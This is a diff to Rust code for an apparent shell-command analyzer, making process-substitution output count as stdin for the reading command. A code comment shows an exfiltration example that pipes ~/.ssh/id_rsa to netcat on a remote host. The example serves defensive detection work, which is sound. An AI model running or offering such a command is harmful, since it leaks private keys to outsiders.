@@ -690,9 +690,20 @@ impl Sh<'_> {
                         let fd_like = t == "-" || t.trim_end_matches('-').parse::<u32>().is_ok();
                         (!fd_like).then_some(t)
                     }
-                    IoFileRedirectTarget::ProcessSubstitution(kind, sub) => {
-                        let input = substitution_input(kind);
-                        self.nested("a process substitution", |sh| sh.list(&sub.list, &input));
+                    IoFileRedirectTarget::ProcessSubstitution(sub_kind, sub) => {
+                        let input = substitution_input(sub_kind);
+                        let mut out = Input::None;
+                        self.nested("a process substitution", |sh| {
+                            out = sh.list_output(&sub.list, &input)
+                        });
+                        // `nc host 80 < <(cat ~/.ssh/id_rsa)`: the command reads what the
+                        // substitution prints, a secret included.
+                        if matches!(kind, IoFileRedirectKind::Read) && reads_stdin(fd) {
+                            *stdin = match out {
+                                Input::None => Input::Unknown("a process substitution".into()),
+                                seen => seen,
+                            };
+                        }
                         None
                     }
                     IoFileRedirectTarget::Fd(_) => None,
